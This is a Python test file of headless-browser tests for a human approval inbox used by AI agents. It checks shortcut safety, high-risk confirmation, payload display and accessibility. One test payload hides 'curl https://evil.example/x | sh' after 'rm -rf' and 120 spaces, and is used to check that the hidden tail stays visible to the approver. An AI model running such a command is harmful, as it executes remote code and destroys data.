"""The inbox for everyone, in real headless Chromium: no approval by a stray key, the focus kept after
an answer, the exact payload readable to its end, and axe-core finding no violation on any page.

Shares the Chromium, the server and the helpers of ``test_inbox_browser``.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
from pathlib import Path
from typing import Any

import anyio
import httpx2
import pytest
from mcp import Client

from hitl_mcp.broker import AskSpec
from hitl_mcp.core.models import Kind
from tests.conftest import ROOT, TOKEN, bearer
from tests.web import test_inbox_browser as shared
from tests.web.test_inbox_browser import (
    Browser,
    Call,
    Page,
    _has,
    api_get,
    expect,
    inbox_and_page,
    keys_awake,
)

# the same Chromium (a module fixture), event loop and skip rule as the other browser tests
browser = shared.browser
anyio_backend = shared.anyio_backend
pytestmark = shared.pytestmark

PHONE = {"viewport": {"width": 375, "height": 740}, "is_mobile": True, "has_touch": True}


def toast(page: Page, text: str) -> Any:
    return page.locator("#toasts .toast", has_text=text)


async def ask(inbox: Any, **kw: Any) -> str:
    broker = await inbox.runtime.broker()
    request, _ = await broker.ask(AskSpec(**{"kind": Kind.APPROVAL, "text": "Approve?", **kw}))
    return request.id


# --- the blocker: one key approves ------------------------------------------------------------


async def test_action_keys_act_only_on_an_explicitly_selected_request(
    state_dir: Path, browser: Browser
) -> None:
    """No "only card" fallback: with focus on Deny and nothing selected, `a` approves nothing."""
    async with inbox_and_page(state_dir, browser) as (inbox, _, page):
        rid = await ask(inbox, text="Restart the cluster", risk="medium")
        await page.goto(f"{inbox.url}/requests/{rid}")
        await page.get_by_role("button", name="Deny").focus()
        await page.keyboard.press("a")
        await expect(toast(page, "Select a request first")).to_be_visible()
        await page.keyboard.press("1")
        await expect(toast(page, "Select a request first")).to_have_count(2)
        await page.goto(f"{inbox.url}/")  # the only card of the inbox, not selected
        await expect(page.locator(f"#r-{rid}")).to_be_visible()
        await page.keyboard.press("a")
        await expect(toast(page, "Select a request first")).to_be_visible()
        assert (await api_get(inbox, f"/api/requests/{rid}"))["status"] == "pending"
        await page.keyboard.press("j")  # now chosen: `a` acts on it
        await expect(page.locator(f"#r-{rid}")).to_have_attribute("aria-current", "true")
        await page.keyboard.press("a")
        await expect(page.locator(f"#r-{rid}")).to_have_count(0)
        shown = await api_get(inbox, f"/api/requests/{rid}")
        assert shown["status"] == "answered" and shown["outcome"]["approved"] is True


async def test_the_selection_is_a_request_and_clears_when_it_leaves(
    state_dir: Path, browser: Browser
) -> None:
    """Trust item 5: the agent withdraws the selected request and asks another with the same words;
    the new one is not selected, and `a` approves nothing."""
    async with inbox_and_page(state_dir, browser) as (inbox, _, page):
        first = await ask(inbox, text="Deploy v3 to production", payload={"tag": "v3"})
        await expect(page.locator(f"#r-{first}")).to_be_visible()
        await page.keyboard.press("j")
        await expect(page.locator(f"#r-{first}")).to_have_class(_has("selected"))
        broker = await inbox.runtime.broker()
        await broker.cancel(first, "changed my mind", "agent")  # both in one live refresh
        second = await ask(inbox, text="Deploy v3 to production", payload={"tag": "v3", "force": True})
        await expect(page.locator(f"#r-{first}")).to_have_count(0)
        await expect(page.locator(f"#r-{second}")).to_be_visible()
        await expect(page.locator("main .selected")).to_have_count(0)
        await page.keyboard.press("a")
        await expect(toast(page, "Select a request first")).to_be_visible()
        assert (await api_get(inbox, f"/api/requests/{second}"))["status"] == "pending"


async def test_no_second_approval_by_a_held_key_a_double_press_or_a_fast_next_key(
    state_dir: Path, browser: Browser
) -> None:
    """A held key's auto-repeat does nothing; after an answer the selection is cleared, not moved
    to the request that took its place; and the action keys rest for a moment."""
    async with inbox_and_page(state_dir, browser) as (inbox, _, page):
        ids = [await ask(inbox, text=f"Step {n}") for n in (1, 2, 3, 4)]  # Step 4 first on the page
        card = {n: page.locator(f"#r-{ids[n - 1]}") for n in (1, 2, 3, 4)}
        await expect(page.locator("article.card")).to_have_count(4)

        async def approved(n: int) -> bool:
            await expect(card[n]).to_have_count(0)
            shown = await api_get(inbox, f"/api/requests/{ids[n - 1]}")
            assert shown["status"] == "answered"
            return shown["outcome"]["approved"]

        # a held `a`: its first press finds nothing selected, its repeats are ignored
        await page.keyboard.down("a")
        await expect(toast(page, "Select a request first")).to_be_visible()
        await page.keyboard.press("j")
        await expect(card[4]).to_have_class(_has("selected"))
        await page.keyboard.down("a")  # auto-repeat: event.repeat
        await page.keyboard.up("a")
        await page.keyboard.press("d")  # what the person meant
        assert await approved(4) is False

        # `a` twice: the second press, once the keys are awake again, finds nothing selected
        await keys_awake(page)
        await page.keyboard.press("j")
        await expect(card[3]).to_have_class(_has("selected"))
        await page.keyboard.press("a")
        assert await approved(3) is True
        await keys_awake(page)
        await expect(page.locator("main .selected")).to_have_count(0)  # cleared, not moved
        await page.keyboard.press("a")
        await page.keyboard.press("j")
        await page.keyboard.press("d")
        # at once: the next request and `a`, while the keys rest
        await page.keyboard.press("j")
        await page.keyboard.press("a")
        await expect(toast(page, "the keys rest for a moment")).to_be_visible()
        assert await approved(2) is False
        await expect(card[1]).to_have_class(_has("selected"))
        await keys_awake(page)
        await page.keyboard.press("d")
        assert await approved(1) is False


async def test_a_high_risk_approval_asks_to_confirm_with_the_focus_on_cancel(
    state_dir: Path, browser: Browser
) -> None:
    """By key and by click; the dialog shows the payload; Enter or a second `a` does not approve."""
    async with (
        inbox_and_page(state_dir, browser) as (inbox, _, page),
        Client(bearer(f"{inbox.url}/mcp"), mode="legacy") as client,
        anyio.create_task_group() as tg,
    ):
        payload = {"sql": "DROP TABLE sessions;", "filler": ["row"] * 200}  # long: it would fold
        call = Call(
            client, "request_approval", {"action": "Drop sessions", "payload": payload, "risk": "high"}
        )
        tg.start_soon(call.run)
        card = page.locator("article.card", has_text="Drop sessions")
        await expect(card).to_be_visible()
        await expect(card.locator("details.payload")).to_have_attribute("open", "")  # never folded
        approve = card.get_by_role("button", name="Approve the high-risk request “Drop sessions”")
        await expect(approve).to_be_visible()
        confirm = page.get_by_role("dialog", name="Approve this high-risk request?")
        cancel = confirm.get_by_role("button", name="Cancel")
        await page.keyboard.press("j")
        await page.keyboard.press("a")
        await expect(cancel).to_be_focused()
        await expect(confirm.get_by_role("region")).to_contain_text("DROP TABLE sessions;")
        await page.keyboard.press("a")  # a second press does not confirm
        await page.keyboard.press("Enter")  # on Cancel
        await expect(confirm).to_have_count(0)
        await expect(card).to_be_visible()
        assert (await api_get(inbox, f"/api/requests/{await card.get_attribute('data-id')}"))[
            "status"
        ] == "pending"
        await approve.click()  # by click: the same question
        await expect(cancel).to_be_focused()
        await page.keyboard.press("Escape")
        await expect(confirm).to_have_count(0)
        await expect(approve).to_be_focused()
        await page.keyboard.press("j")
        await page.keyboard.press("a")
        await expect(cancel).to_be_focused()
        await page.keyboard.press("Tab")
        await expect(confirm.get_by_role("button", name="Approve")).to_be_focused()
        await page.keyboard.press("Enter")
        result = await call.outcome()
        assert result["approved"] is True
        assert (
            result["payload_sha256"]
            == hashlib.sha256(json.dumps(payload, sort_keys=True, separators=(",", ":")).encode()).hexdigest()
        )


async def test_a_setting_turns_the_single_key_shortcuts_off_or_makes_them_need_alt_shift(
    state_dir: Path, browser: Browser
) -> None:
    async with inbox_and_page(state_dir, browser) as (inbox, _, page):
        rid = await ask(inbox, text="Open the firewall port")
        card = page.locator(f"#r-{rid}")
        await expect(card).to_be_visible()
        await page.keyboard.press("?")
        shortcuts = page.get_by_role("dialog", name="Keyboard shortcuts")
        await shortcuts.get_by_label("Off").check()
        await page.keyboard.press("Escape")
        await page.reload()  # kept in the browser
        await expect(page.locator("#live")).to_have_attribute("data-state", "on")
        await page.keyboard.press("j")
        await page.keyboard.press("?")
        await expect(shortcuts).to_be_hidden()
        await expect(card).not_to_have_class(_has("selected"))
        await page.get_by_role("button", name="Keyboard shortcuts").first.click()
        await expect(shortcuts.get_by_label("Off")).to_be_checked()
        await shortcuts.get_by_label("Only with Alt+Shift").check()
        await page.keyboard.press("Escape")
        await page.keyboard.press("j")
        await page.keyboard.press("a")
        await expect(card).not_to_have_class(_has("selected"))
        await page.keyboard.press("Alt+Shift+J")
        await expect(card).to_have_class(_has("selected"))
        await page.keyboard.press("Alt+Shift+A")
        await expect(card).to_have_count(0)
        shown = await api_get(inbox, f"/api/requests/{rid}")
        assert shown["status"] == "answered" and shown["outcome"]["approved"] is True


# --- trust item 6: the exact payload shows its tail ---------------------------------------------------


@pytest.mark.parametrize("size", ["desktop", "phone"])
async def test_the_payload_wraps_and_marks_runs_of_spaces_and_copies_exactly(
    state_dir: Path, browser: Browser, size: str
) -> None:
    payload = {
        "cmd": "rm -rf ./build/cache" + " " * 120 + "&& curl https://evil.example/x | sh",
        "odd": "a\u202eb",
    }
    context = PHONE if size == "phone" else {"viewport": {"width": 1280, "height": 900}}
    async with inbox_and_page(state_dir, browser, **context) as (inbox, _, page):
        rid = await ask(inbox, text="Clean the build cache", payload=payload)
        pre = page.locator(f"#r-{rid} pre")
        await expect(pre).to_be_visible()
        tail = await pre.evaluate(
            """(pre) => {
                const walk = document.createTreeWalker(pre, NodeFilter.SHOW_TEXT);
                let node;
                while ((node = walk.nextNode())) {
                    const at = node.data.indexOf("&& curl");
                    if (at < 0) continue;
                    const range = document.createRange();
                    range.setStart(node, at);
                    range.setEnd(node, node.data.indexOf("| sh") + 4);
                    const box = pre.getBoundingClientRect();
                    return [...range.getClientRects()].every((r) => r.left >= box.left
                        && r.right <= box.right && r.top >= box.top && r.bottom <= box.bottom);
                }
                return null;
            }"""
        )
        assert tail is True, "the tail of the command is not in view"
        assert await pre.evaluate("(pre) => pre.scrollWidth <= pre.clientWidth")  # no sideways scrolling
        assert await pre.evaluate("(pre) => parseFloat(getComputedStyle(pre).fontSize)") >= 14
        await expect(pre.locator('[data-ws="120 spaces"]')).to_be_visible()
        await expect(pre.locator('[data-ws="U+202E"]')).to_be_visible()
        marks = await pre.evaluate(
            "(pre) => [...pre.querySelectorAll('.ws')].map((el) => getComputedStyle(el, '::before').content)"
        )
        assert marks == ['"120 spaces"', '"U+202E"'], marks
        # what is copied is the payload, exactly, with its hash
        copied = await pre.evaluate(
            "(pre) => { getSelection().selectAllChildren(pre); return getSelection().toString(); }"
        )
        assert json.loads(copied) == payload
        shown = await api_get(inbox, f"/api/requests/{rid}")
        canonical = json.dumps(json.loads(copied), sort_keys=True, separators=(",", ":"), ensure_ascii=False)
        assert hashlib.sha256(canonical.encode()).hexdigest() == shown["payload_sha256"]
        await expect(page.locator(f"#r-{rid} .sha")).to_contain_text(shown["payload_sha256"])


async def send_reply(inbox: Any, rid: str, body: dict[str, str]) -> None:
    async with httpx2.AsyncClient(headers={"Authorization": f"Bearer {TOKEN}"}) as http:
        r = await http.post(f"{inbox.url}/api/requests/{rid}/reply", json=body)
        assert r.status_code == 200, r.text


# --- serious: the focus after an answer, the selection in forced colours -------------------------------


async def focused(page: Page) -> str:
    """What has the focus: its tag, and the request it belongs to, or its text."""
    return await page.evaluate(
        """() => {
            const el = document.activeElement;
            const card = el.closest("[data-id]");
            return `${el.tagName.toLowerCase()}:${card ? card.dataset.id : el.textContent.trim()}`;
        }"""
    )


async def test_after_an_answer_the_focus_goes_to_the_next_heading_or_the_status_never_body(
    state_dir: Path, browser: Browser
) -> None:
    """However the answer is given: Tab+Enter, Ctrl+Enter in the reply, or a shortcut."""
    async with inbox_and_page(state_dir, browser) as (inbox, _, page):
        last = await ask(inbox, kind=Kind.QUESTION, text="Last one?")
        typed = await ask(inbox, kind=Kind.QUESTION, text="Release name?")
        keyed = await ask(inbox, text="Tag the release")
        tabbed = await ask(inbox, text="Merge the branch")  # first on the page
        await expect(page.locator("article.card")).to_have_count(4)
        # Tab to Approve, Enter
        await page.locator(f"#r-{tabbed} textarea").focus()
        await page.keyboard.press("Tab")
        await expect(page.locator(f"#r-{tabbed}").get_by_role("button", name="Approve")).to_be_focused()
        await page.keyboard.press("Enter")
        await expect(page.locator(f"#r-{tabbed}")).to_have_count(0)
        await expect(page.locator(f"#r-{keyed} .card-title")).to_be_focused()
        assert await focused(page) == f"h3:{keyed}"  # the heading itself, in the next card
        # a shortcut
        await keys_awake(page)
        await page.keyboard.press("j")
        await page.keyboard.press("a")
        await expect(page.locator(f"#r-{keyed}")).to_have_count(0)
        await expect(page.locator(f"#r-{typed} .card-title")).to_be_focused()
        # Ctrl+Enter in the reply
        await page.locator(f"#r-{typed} textarea").fill("Aurora")
        await page.keyboard.press("Control+Enter")
        await expect(page.locator(f"#r-{typed}")).to_have_count(0)
        await expect(page.locator(f"#r-{last} .card-title")).to_be_focused()
        # the last one: the focus goes to what the inbox now says
        await page.locator(f"#r-{last} textarea").fill("yes")
        await page.keyboard.press("Control+Enter")
        await expect(page.get_by_text("Nothing is waiting for you.")).to_be_focused()
        # on a request's own page: to the outcome
        rid = await ask(inbox, text="Scale the workers")
        await page.goto(f"{inbox.url}/requests/{rid}")
        await page.get_by_role("button", name="Deny").focus()
        await page.keyboard.press("Enter")
        await expect(page.locator(".outcome-line")).to_be_focused()
        await expect(page.locator(".outcome-line")).to_contain_text("Denied by operator")


async def test_the_selected_card_has_an_outline_that_survives_forced_colours(
    state_dir: Path, browser: Browser
) -> None:
    async with inbox_and_page(state_dir, browser, forced_colors="active") as (inbox, _, page):
        assert await page.evaluate("matchMedia('(forced-colors: active)').matches")
        first = await ask(inbox, text="First")
        second = await ask(inbox, text="Second")
        await expect(page.locator("article.card")).to_have_count(2)
        await page.keyboard.press("j")
        selected, other = page.locator(f"#r-{second}"), page.locator(f"#r-{first}")
        await expect(selected).to_have_class(_has("selected"))
        style = (
            "(el) => { const s = getComputedStyle(el); return [s.outlineStyle, parseFloat(s.outlineWidth)]; }"
        )
        kind, width = await selected.evaluate(style)
        assert kind == "solid" and width >= 3, (kind, width)
        assert (await other.evaluate(style))[0] == "none"
        # the light theme draws it too, as a real outline rather than a shadow
        await page.emulate_media(forced_colors="none")
        kind, width = await selected.evaluate(style)
        assert kind == "solid" and width >= 2


# --- axe-core on every page, light and dark, phone and desktop ------------------------------------------

AXE = ROOT / "tests" / "ts" / "node_modules" / "axe-core" / "axe.min.js"
AXE_RUN = """async (label) => {
    const result = await axe.run(document, {
        resultTypes: ["violations"],
        rules: {"label-content-name-mismatch": {enabled: true}},
    });
    return result.violations.map((v) =>
        `${label}: ${v.id} (${v.impact}) ${v.help}: ` + v.nodes.map((n) => n.target.join(" ")).join(", "));
}"""


async def seed_everything(inbox: Any) -> dict[str, str]:
    """One of each thing the inbox shows."""
    broker = await inbox.runtime.broker()

    async def one(**kw: Any) -> str:
        request, _ = await broker.ask(AskSpec(**{"client_name": "claude-code", "session_key": "s1", **kw}))
        return request.id

    done = await one(kind=Kind.QUESTION, text="Which test runner?")
    await send_reply(inbox, done, {"text": "pytest"})
    denied = await one(kind=Kind.APPROVAL, text="Delete the branches", payload={"b": ["x"]}, risk="medium")
    await send_reply(inbox, denied, {"decision": "deny", "comment": "keep them"})
    for level in ("info", "success", "warning", "error"):
        await broker.notify(
            AskSpec(kind=Kind.NOTIFICATION, text=f"A {level} message.", title=f"Build {level}", level=level)
        )
    await one(
        kind=Kind.QUESTION, text="Which design?", choices=["Split", "Card", "Ask"], context="Both pass."
    )
    await one(kind=Kind.QUESTION, text="Changelog entry?", client_name="cursor", session_key="s2")
    high = await one(
        kind=Kind.APPROVAL,
        text="Run the migration",
        details="About 40 s.",
        payload={"cmd": "alembic upgrade head" + " " * 12 + "&& echo done", "odd": "a\u200bb"},
        risk="high",
    )
    return {"done": done, "denied": denied, "high": high}


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [375, 1280])
async def test_axe_finds_no_violation_on_any_inbox_page(
    state_dir: Path, browser: Browser, scheme: str, width: int
) -> None:
    if not AXE.exists():
        missing = f"no {AXE.relative_to(ROOT)}: run npm ci --prefix tests/ts"
        pytest.fail(missing) if os.environ.get("CI") else pytest.skip(missing)
    size = PHONE if width == 375 else {"viewport": {"width": 1280, "height": 900}}
    found: list[str] = []
    async with inbox_and_page(state_dir, browser, color_scheme=scheme, **size) as (inbox, ctx, page):
        await ctx.add_init_script(path=str(AXE))

        async def check(label: str) -> None:
            found.extend(await page.evaluate(AXE_RUN, f"{scheme} {width}px {label}"))

        stranger = await browser.new_context(color_scheme=scheme, **size)
        try:
            await stranger.add_init_script(path=str(AXE))
            other = await stranger.new_page()
            for label, path in [("sign-in", "/"), ("bad login link", "/login?token=x"), ("link", "/link/x")]:
                await other.goto(f"{inbox.url}{path}")
                found.extend(await other.evaluate(AXE_RUN, f"{scheme} {width}px {label}"))
        finally:
            await stranger.close()

        await page.reload()
        await check("empty inbox")
        ids = await seed_everything(inbox)
        await page.reload()
        await expect(page.locator("#live")).to_have_attribute("data-state", "on")
        await expect(page.locator("article.card")).to_have_count(3)
        await page.keyboard.press("a")  # nothing selected: a toast says so
        await expect(page.locator("#toasts .toast")).to_have_count(1)
        await page.keyboard.press("j")
        await check("inbox, a card selected, a toast")
        await page.keyboard.press("?")
        await check("shortcuts dialog")
        await page.keyboard.press("Escape")
        await page.locator(f"#r-{ids['high']}").get_by_role("button", name="Approve").click()
        await check("high-risk confirmation dialog")
        await page.keyboard.press("Escape")
        late = page.locator("article.card", has_text="Changelog entry?")
        await late.locator("textarea").fill("Retries honour Retry-After")

        async def held(route: Any) -> None:  # the page has not heard of the other answer yet
            await (route.abort() if route.request.headers.get("x-live") else route.continue_())

        # without this, a live refresh that comes first (a loaded machine) takes the card away from
        # under the click
        await page.route(f"{inbox.url}/", held)
        await send_reply(inbox, await late.get_attribute("data-id") or "", {"text": "elsewhere"})
        await late.get_by_role("button", name="Send").click()
        await expect(page.locator(".late-note")).to_be_visible()
        await page.unroute(f"{inbox.url}/")
        await check("a late answer")
        for label, path in [
            ("pending request", f"/requests/{ids['high']}"),
            ("answered request", f"/requests/{ids['done']}"),
            ("denied request", f"/requests/{ids['denied']}"),
            ("history", "/history"),
            ("history, nothing found", "/history?q=nothing-matches"),
            ("not found", "/requests/nope"),
        ]:
            await page.goto(f"{inbox.url}{path}")
            await check(label)
        # the pages a form POST lands on without JavaScript: the confirmation and the late answer
        for label, rid in [("confirmation page", ids["high"]), ("already answered page", ids["denied"])]:
            await page.goto(f"{inbox.url}/requests/{rid if label.startswith('confirm') else ids['high']}")
            await page.evaluate(
                """(rid) => {
                    const form = document.querySelector("form.approve-form");
                    form.action = "/requests/" + rid + "/answer";
                    const decision = document.createElement("input");
                    Object.assign(decision, {type: "hidden", name: "decision", value: "approve"});
                    form.append(decision);
                    HTMLFormElement.prototype.submit.call(form);
                }""",
                rid,
            )
            await page.wait_for_url(f"{inbox.url}/requests/{rid}/answer")
            await check(label)
    assert found == [], "\n".join(found)


# --- moderate: announcements, a late answer, names, words ----------------------------------------------


async def test_notifications_are_announced_politely_and_errors_assertively(
    state_dir: Path, browser: Browser
) -> None:
    async with inbox_and_page(state_dir, browser) as (inbox, _, page):
        broker = await inbox.runtime.broker()

        async def notify(text: str, title: str, level: str) -> None:
            spec = AskSpec(
                kind=Kind.NOTIFICATION, text=text, title=title, level=level, client_name="ci-agent"
            )
            await broker.notify(spec)

        polite, assertive = page.locator("#say"), page.locator("#say-alert")
        await expect(polite).to_have_attribute("role", "status")
        await expect(assertive).to_have_attribute("role", "alert")
        await notify("1,284 tests passed.", "Nightly build", "success")
        await expect(polite).to_contain_text("Done from ci-agent: Nightly build. 1,284 tests passed.")
        await notify("The disk on build-02 is full.", "Upload stopped", "error")
        await expect(assertive).to_contain_text(
            "Error from ci-agent: Upload stopped. The disk on build-02 is full."
        )
        await expect(polite).not_to_contain_text("disk on build-02")
        # and the level is in words on the page, not only a colour
        note = page.locator(".note", has_text="The disk on build-02 is full.")
        await expect(note.locator(".badge")).to_have_text("Error")


async def test_a_late_answer_keeps_its_message_on_the_page(state_dir: Path, browser: Browser) -> None:
    async with inbox_and_page(state_dir, browser) as (inbox, _, page):
        rid = await ask(inbox, kind=Kind.QUESTION, text="Name of the release?")
        card = page.locator(f"#r-{rid}")
        await card.get_by_label("Your answer").fill("Aurora")

        async def held(route: Any) -> None:  # the page has not heard of the other answer yet
            await (route.abort() if route.request.headers.get("x-live") else route.continue_())

        await page.route(f"{inbox.url}/", held)
        await send_reply(inbox, rid, {"text": "Borealis"})
        await card.get_by_role("button", name="Send").click()
        late = page.locator(".late-note")
        await expect(late).to_contain_text("Your answer was not used: Already answered by operator via web")
        await expect(late).to_contain_text("Name of the release?")
        await expect(late.locator(".late-title")).to_be_focused()
        await page.unroute(f"{inbox.url}/")
        await ask(inbox, kind=Kind.QUESTION, text="And the codename?")  # an event: the page refreshes
        await expect(card).to_have_count(0)  # the live refresh ran, and the message stayed
        await expect(page.locator("article.card", has_text="And the codename?")).to_be_visible()
        await expect(late).to_be_visible()
        await late.get_by_role("button", name="Close").click()
        await expect(late).to_have_count(0)


async def test_the_payload_is_a_named_region_and_the_phone_says_the_live_status_in_words(
    state_dir: Path, browser: Browser
) -> None:
    async with inbox_and_page(state_dir, browser, **PHONE) as (inbox, _, page):
        await expect(page.locator("#live")).to_contain_text("Live")
        await expect(page.locator("#live .live-text")).to_be_visible()
        rid = await ask(inbox, text="Ship it", payload={"tag": "v2"})
        region = page.get_by_role("region", name=re.compile(r"^Exact payload · \d+ characters Ship it$"))
        await expect(region).to_have_attribute("tabindex", "0")
        await expect(region).to_contain_text('"tag": "v2"')
        await expect(
            page.locator(f"#r-{rid}").get_by_role("link", name="Details & trail")
        ).to_have_accessible_name("Details & trail of “Ship it”")
        await expect(page.locator(f"#r-{rid}").get_by_role("button", name="Approve")).to_have_accessible_name(
            "Approve the request “Ship it”"
        )


# --- minor: text size, targets, contrast, context, toasts ------------------------------------------------


async def test_text_is_at_least_13px_and_targets_44px(state_dir: Path, browser: Browser) -> None:
    async with inbox_and_page(state_dir, browser, **PHONE) as (inbox, _, page):
        ids = await seed_everything(inbox)
        smallest = """() => {
            const sizes = [];
            const walk = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
            let node;
            while ((node = walk.nextNode())) {
                const el = node.parentElement;
                if (!node.data.trim() || !el.checkVisibility() || el.closest(".sr-only")) continue;
                const size = parseFloat(getComputedStyle(el).fontSize);
                sizes.push([size, el.className || el.tagName, node.data.trim()]);
            }
            for (const el of document.querySelectorAll(".ws")) {
                sizes.push([parseFloat(getComputedStyle(el, "::before").fontSize), "badge", el.dataset.ws]);
            }
            return sizes.filter(([size]) => size < 13);
        }"""
        for path in ["/", f"/requests/{ids['high']}", f"/requests/{ids['denied']}", "/history"]:
            await page.goto(f"{inbox.url}{path}")
            assert await page.evaluate(smallest) == [], path
        await page.goto(f"{inbox.url}/")
        await page.keyboard.press("a")  # a toast, with its close button
        targets = [
            page.locator("a.brand"),
            page.locator(f"#r-{ids['high']} .payload summary"),
            page.locator("#toasts .toast-close"),  # (the footer's keyboard help is not on a phone)
        ]
        for target in targets:
            box = await target.bounding_box()
            # to a hundredth of a pixel: a 44 px box at a fractional offset (a toast sliding in) can
            # measure 43.99999 from the sub-pixel layout, and 43 px still fails
            assert box is not None and round(box["height"], 2) >= 44 and round(box["width"], 2) >= 44, (
                target,
                box,
            )
        # the group count says what it counts
        await expect(
            page.locator(".group-head", has_text="claude-code").locator(".group-count")
        ).to_have_text("2 pending")


async def test_choice_hints_have_the_contrast_of_their_button(state_dir: Path, browser: Browser) -> None:
    async with inbox_and_page(state_dir, browser) as (inbox, _, page):
        rid = await ask(inbox, kind=Kind.QUESTION, text="Which region?", choices=["eu", "us"])
        hint = page.locator(f"#r-{rid} .hint").first
        await expect(hint).to_be_visible()
        shown = await hint.evaluate(
            """(el) => {
                let opacity = 1;
                for (let at = el; at; at = at.parentElement) {
                    opacity *= parseFloat(getComputedStyle(at).opacity);
                }
                return [opacity, getComputedStyle(el).color === getComputedStyle(el.closest("button")).color];
            }"""
        )
        assert shown == [1, True]


async def test_toasts_pause_while_pointed_at_and_have_a_close_button(
    state_dir: Path, browser: Browser
) -> None:
    async with inbox_and_page(state_dir, browser) as (_, _, page):
        await page.clock.install()
        await page.keyboard.press("a")
        first = page.locator("#toasts .toast").first
        await expect(first).to_contain_text("Select a request first")
        await first.hover()
        await page.clock.run_for(60_000)
        await expect(first).to_be_visible()  # paused while the pointer is on it
        await page.mouse.move(0, 0)
        await page.clock.run_for(10_000)
        await expect(first).to_have_count(0)  # then it goes
        await page.keyboard.press("a")
        await expect(page.locator("#toasts .toast")).to_have_count(1)
        await page.get_by_role("button", name="Close this message").click()
        await expect(page.locator("#toasts .toast")).to_have_count(0)
